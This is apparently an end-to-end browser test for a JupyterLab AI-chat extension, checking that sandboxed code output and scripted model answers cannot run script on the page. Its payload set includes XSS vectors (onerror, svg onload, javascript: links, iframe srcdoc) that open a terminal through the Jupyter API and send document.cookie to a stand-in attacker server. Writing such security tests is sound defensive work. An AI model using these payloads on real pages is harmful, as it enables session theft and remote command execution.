/**
 * Browser test: nothing sandboxed code or the model shows in a think notebook can script the
 * JupyterLab page (real JupyterLab, real think kernel and sandbox; only the model is
 * scripted, see harness.mjs).
 *
 * A `%%python` cell and a request (whose tool runs the same code and whose answer carries
 * the same payloads as Markdown) try every way in: `<img onerror>`, `<script>`,
 * application/javascript, Markdown with `onerror`, `<svg onload>`, `javascript:` links
 * (clicked), `<meta http-equiv=refresh>`, `<form action>` (submitted), CSS that loads a
 * remote URL, `<iframe srcdoc>`, a widget view. Each payload would set `top.__pwned`, post to
 * the server's terminals API (a root shell) or load a remote URL. The test checks none did,
 * live and again after reloading the page and reopening the saved notebook with no cell
 * run; a DataFrame and a matplotlib figure must still show.
 *
 * Run: `npm run test:e2e` (needs `npm run build` first and Chromium at /usr/bin/chromium).
 */

import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { after, afterEach, before, describe, test } from 'node:test';

import { SCRIPTS, launchLab, openChat, shot } from './harness.mjs';

const TIMEOUT = 90000;
// A server standing for the attacker's: it counts what reaches it.
const evilHits = [];
const evil = http.createServer((req, res) => {
  evilHits.push(`${req.method} ${req.url}`);
  res.end('');
});
await new Promise(r => evil.listen(0, '127.0.0.1', r));
const EVIL = `http://127.0.0.1:${evil.address().port}`;
const UNTRUSTED = 'application/vnd.think.untrusted+json';

/** What a payload does when it runs: mark the page, open a terminal, send data away. */
const JS = `top.__pwned=1;fetch('/api/terminals',{method:'POST'});fetch('${EVIL}/js?'+document.cookie)`;

/** HTML payloads (each one way in). */
const HTML = [
  `<img src=x onerror="${JS}">`,
  `<script>${JS}</script>`,
  `<svg onload="${JS}"><circle r="5"/></svg>`,
  `<a id="jslink" href="javascript:${JS}">click me</a>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<form action="${EVIL}/form" method="post"><input name="q" value="secret"><button id="go">go</button></form>`,
  `<style>body{background:url(${EVIL}/css)}</style><div style="background-image:url(${EVIL}/css2)">styled</div>`,
  `<iframe srcdoc="<script>parent.__pwned=2;top.__pwned=2</script>"></iframe>`
];

/** The same payloads as a model's Markdown answer. */
const ANSWER = [
  'Here are the results.',
  ...HTML,
  `[click me](javascript:${encodeURIComponent(JS)})`,
  `![chart](${EVIL}/image?leak=secret)`,
  `<img src=x onerror="${JS}"> done`
].join('\n\n');

/** Python for the sandbox: every payload as a display, then a DataFrame and a figure. */
const PYTHON = `
payloads = ${JSON.stringify(HTML)}
for html in payloads:
    display({"text/html": html, "text/plain": "html payload"})
display({"application/javascript": ${JSON.stringify(JS)}, "text/plain": "js payload"})
display({"text/markdown": ${JSON.stringify(`<img src=x onerror="${JS}"> [x](javascript:alert(1))`)}, "text/plain": "md payload"})
display({"image/svg+xml": ${JSON.stringify(`<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"><rect width="10" height="10"/></svg>`)}, "text/plain": "svg payload"})
display({"application/vnd.jupyter.widget-view+json": {"model_id": "nope", "version_major": 2, "version_minor": 0}, "text/plain": "widget payload"})
`;

const FIGURES = `
import pandas as pd
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
display(pd.DataFrame({"city": ["Oslo", "Rome", "Lima"], "price": [1.5, 2.0, 3.25]}))
plt.figure(figsize=(4, 3))
plt.plot([1, 2, 3], [3, 1, 2])
plt.title("sandbox figure")
`;

Object.assign(SCRIPTS, {
  // Keyed by each conversation's first message: other model calls (titles) take none.
  attack: [
    {
      conversation: 'notebook attack',
      text: 'Running it.',
      tool_calls: [['execute_code', { code: PYTHON }]]
    },
    { conversation: 'notebook attack', text: ANSWER }
  ],
  chatAttack: [
    {
      conversation: 'chat attack',
      text: 'Running it.',
      tool_calls: [['execute_code', { code: PYTHON }]]
    },
    { conversation: 'chat attack', text: ANSWER }
  ]
});

const NOTEBOOK = JSON.stringify({
  cells: [
    {
      cell_type: 'code',
      source: `%%python\n${PYTHON}`,
      metadata: {},
      outputs: [],
      execution_count: null
    },
    {
      cell_type: 'code',
      source: `%%python\n${FIGURES}`,
      metadata: {},
      outputs: [],
      execution_count: null
    },
    {
      cell_type: 'code',
      source: 'run the notebook attack',
      metadata: {},
      outputs: [],
      execution_count: null
    }
  ],
  metadata: {
    kernelspec: { name: 'think', display_name: 'Think', language: 'markdown' },
    language_info: { name: 'markdown' }
  },
  nbformat: 4,
  nbformat_minor: 5
});

let ui;
let lab;
let context;
let page;
const requests = [];
const cspReports = [];

/**
 * Requests that went to another origin (and were not stopped by a content security policy
 * before leaving), and any attempt to open a terminal (JupyterLab itself only lists them).
 */
function badRequests() {
  return requests
    .filter(
      r =>
        (!/^(data|blob|about):/.test(r.url) &&
          !r.url.startsWith(lab.url) &&
          !/BLOCKED_BY_CSP|csp/i.test(r.failure ?? '')) ||
        (r.url.includes('/api/terminals') && r.method !== 'GET')
    )
    .map(r => `${r.method} ${r.url} ${r.failure ?? ''}`);
}

async function terminals() {
  const r = await fetch(`${lab.url}/api/terminals`, {
    headers: { Authorization: `token ${lab.token}` }
  });
  return r.json();
}

/** Everything the test asserts of a page showing the notebook's outputs. */
async function assertInert(p, label) {
  const outputs = p.locator('.jp-OutputArea-output');
  // Click every link the outputs show but plain web links (a person's click may follow
  // those), and every link and button in the frames (their forms are gone, links inert).
  for (const link of await p
    .locator('.jp-OutputArea-output a:not([href^="http"])')
    .all()) {
    await link.click({ timeout: 5000 }).catch(() => undefined);
  }
  for (const frame of p.frames()) {
    if (frame === p.mainFrame()) {
      continue;
    }
    for (const link of await frame.locator('a, button').all()) {
      await link.click({ timeout: 2000 }).catch(() => undefined);
    }
  }
  const found = await p.evaluate(() => {
    const root =
      document.querySelector('.jp-NotebookPanel:not(.lm-mod-hidden)') ??
      document;
    return {
      pwned: window.__pwned ?? null,
      handlers: root.querySelectorAll(
        '.jp-OutputArea-output [onerror], .jp-OutputArea-output [onload]'
      ).length,
      scripts: root.querySelectorAll('.jp-OutputArea-output script').length,
      jsLinks: root.querySelectorAll(
        '.jp-OutputArea-output a[href^="javascript" i]'
      ).length,
      remoteImages: [...root.querySelectorAll('.jp-OutputArea-output img')]
        .map(i => i.getAttribute('src') ?? '')
        .filter(s => /^(https?:)?\/\//.test(s)),
      frames: [...root.querySelectorAll('.jp-OutputArea-output iframe')].map(
        f => f.getAttribute('sandbox')
      ),
      forms: root.querySelectorAll('.jp-OutputArea-output form').length
    };
  });
  assert.equal(found.pwned, null, `${label}: a payload ran`);
  assert.equal(
    found.handlers,
    0,
    `${label}: event handler attributes in the page`
  );
  assert.equal(found.scripts, 0, `${label}: script elements in the page`);
  assert.equal(found.jsLinks, 0, `${label}: javascript: links in the page`);
  assert.deepEqual(
    found.remoteImages,
    [],
    `${label}: remote images in the page`
  );
  assert.equal(found.forms, 0, `${label}: forms in the page`);
  assert.ok(
    found.frames.length >= 9,
    `${label}: the HTML outputs are framed (${found.frames.length})`
  );
  assert.ok(
    found.frames.every(s => s === 'allow-scripts'),
    `${label}: frame sandbox ${found.frames}`
  );
  assert.ok((await outputs.count()) > 10, label);
  assert.deepEqual(badRequests(), [], `${label}: requests left the page`);
  assert.deepEqual(evilHits, [], `${label}: the attacker's server was reached`);
  // The check above is live: the payloads did try, and the frames' policy stopped them.
  assert.ok(
    cspReports.some(m => m.includes(`${EVIL}/css`)),
    `${label}: no blocked CSS load was reported`
  );
  assert.deepEqual(await terminals(), [], `${label}: a terminal was opened`);
}

/** Record every request of every page, frame and popup, and why it failed if it did. */
function watchRequests(c) {
  const rows = new Map();
  c.on('request', r => {
    const row = { url: r.url(), method: r.method(), failure: null };
    rows.set(r, row);
    requests.push(row);
  });
  c.on('console', m => {
    if (m.text().includes('Content Security Policy')) {
      cspReports.push(m.text());
    }
  });
  c.on('requestfailed', r => {
    const row = rows.get(r);
    if (row) {
      row.failure = r.failure()?.errorText ?? 'failed';
    }
  });
}

async function openNotebook(p) {
  await p.goto(`${lab.url}/lab/tree/security.ipynb?token=${lab.token}`);
  await p.waitForSelector('.jp-NotebookPanel .jp-Cell', { timeout: TIMEOUT });
}

const cell = (p, i) => p.locator('.jp-NotebookPanel .jp-CodeCell').nth(i);

describe('Output security', () => {
  before(async () => {
    ui = await launchLab({
      files: { 'security.ipynb': NOTEBOOK },
      // Every cell in the DOM (no windowing), so off-screen outputs can be checked too.
      labSettings: {
        '@jupyterlab/notebook-extension:tracker': { windowingMode: 'none' }
      },
      viewport: { width: 1400, height: 1000 },
      beforePage: ({ context: c }) => watchRequests(c)
    });
    ({ lab, context, page } = ui);
  });

  afterEach(t => lab?.reportFailure(t));

  after(async () => {
    await ui?.close();
    evil.close();
  });

  test('sandboxed code and model answers cannot script the page', async () => {
    await lab.script('attack');
    await openNotebook(page);
    await page.getByText('Think | Idle').waitFor({ timeout: TIMEOUT }); // the kernel is up
    // Run every cell, one after the other, from the first.
    await page.locator('.jp-NotebookPanel .jp-Cell').first().click();
    await page.keyboard.press('Escape');
    for (let i = 0; i < 3; i++) {
      await page.keyboard.press('Shift+Enter');
    }
    // The request cell ends with the answer (its last paragraph ends with "done").
    await page
      .waitForFunction(
        () =>
          [
            ...document.querySelectorAll('.jp-NotebookPanel .jp-OutputArea')
          ].some(o =>
            /Here are the results[\s\S]*done/.test(o.textContent ?? '')
          ),
        null,
        { timeout: TIMEOUT }
      )
      .catch(async e => {
        await shot(page, 'security-failure');
        throw e;
      });
    await page.waitForSelector(
      '.jp-OutputArea-output img[src^="data:image/png"]',
      { timeout: TIMEOUT }
    );

    // The figure and the DataFrame show (the DataFrame in its sandboxed frame).
    const table = cell(page, 1).frameLocator('iframe').locator('table');
    await table.waitFor({ timeout: TIMEOUT });
    assert.match(await table.textContent(), /Oslo.*Rome.*Lima/s);
    // The frame takes the table's height once it reports it (Chromium pauses the rendering
    // of cross-origin frames out of view, so it is scrolled into view first).
    await cell(page, 1).locator('iframe').scrollIntoViewIfNeeded();
    const frame = await cell(page, 1).locator('iframe').elementHandle();
    await page.waitForFunction(
      f => f.getBoundingClientRect().height > 60,
      frame,
      {
        timeout: TIMEOUT
      }
    );
    const frameBox = await frame.boundingBox();
    assert.ok(frameBox.height < 400, `frame height ${frameBox.height}`);
    const figure = cell(page, 1).locator('img[src^="data:image/png"]');
    assert.ok((await figure.boundingBox()).height > 100);
    // The table's frame has painted (two frames of its own) before the picture is taken.
    await table.evaluate(
      () =>
        new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))
    );
    await shot(page, 'security-dataframe-figure', cell(page, 1));
    await shot(page, 'security-payloads', cell(page, 0));
    await shot(page, 'security-answer', cell(page, 2));

    await assertInert(page, 'live');

    // Saved, reloaded, reopened: no cell runs, the outputs come from the file.
    await page.keyboard.press('Control+s');
    const file = path.join(lab.root, 'security.ipynb');
    const deadline = Date.now() + TIMEOUT;
    while (
      !fs.readFileSync(file, 'utf8').includes(UNTRUSTED) ||
      !fs.readFileSync(file, 'utf8').includes('Here are the results')
    ) {
      assert.ok(Date.now() < deadline, 'the notebook was not saved');
      await page.waitForTimeout(200);
    }
    const saved = JSON.parse(fs.readFileSync(file, 'utf8'));
    const mimes = saved.cells.flatMap(c =>
      c.outputs.flatMap(o => Object.keys(o.data ?? {}))
    );
    assert.ok(mimes.includes(UNTRUSTED));
    for (const bad of [
      'text/html',
      'application/javascript',
      'image/svg+xml',
      'application/vnd.jupyter.widget-view+json'
    ]) {
      assert.ok(!mimes.includes(bad), `${bad} saved as such`);
    }
    await page.close();
    page = await context.newPage();
    await openNotebook(page);
    await page.waitForSelector('.jp-OutputArea-output iframe', {
      timeout: TIMEOUT
    });
    await cell(page, 1)
      .frameLocator('iframe')
      .locator('table')
      .waitFor({ timeout: TIMEOUT });
    await shot(page, 'security-reopened', page.locator('.jp-NotebookPanel'));
    await assertInert(page, 'reopened');
  });

  test('the sidebar shows the same answer and tool output inertly', async () => {
    await lab.script('chatAttack');
    await openChat(page);
    await page.fill('.jp-ThinkComposer-input', 'run the chat attack');
    await page.keyboard.press('Enter');
    await page.waitForFunction(
      () =>
        [
          ...document.querySelectorAll('.jp-ThinkMessage.jp-mod-assistant')
        ].some(m =>
          /Here are the results[\s\S]*done/.test(m.textContent ?? '')
        ),
      null,
      { timeout: TIMEOUT }
    );
    await shot(page, 'security-sidebar', page.locator('.jp-ThinkChat'));
    const found = await page.evaluate(origin => {
      const chat = document.querySelector('.jp-ThinkChat');
      return {
        pwned: window.__pwned ?? null,
        handlers: chat.querySelectorAll('[onerror], [onload]').length,
        scripts: chat.querySelectorAll('script').length,
        jsLinks: chat.querySelectorAll('a[href^="javascript" i]').length,
        frames: chat.querySelectorAll('iframe:not([sandbox])').length,
        forms: chat.querySelectorAll('form').length,
        remote: [...chat.querySelectorAll('img')]
          .map(i => i.getAttribute('src') ?? '')
          .filter(s => /^(https?:)?\/\//.test(s) && !s.startsWith(origin))
      };
    }, lab.url);
    assert.deepEqual(found, {
      pwned: null,
      handlers: 0,
      scripts: 0,
      jsLinks: 0,
      frames: 0,
      forms: 0,
      remote: []
    });
    assert.deepEqual(badRequests(), []);
    assert.deepEqual(evilHits, []);
    assert.deepEqual(await terminals(), []);
  });
});
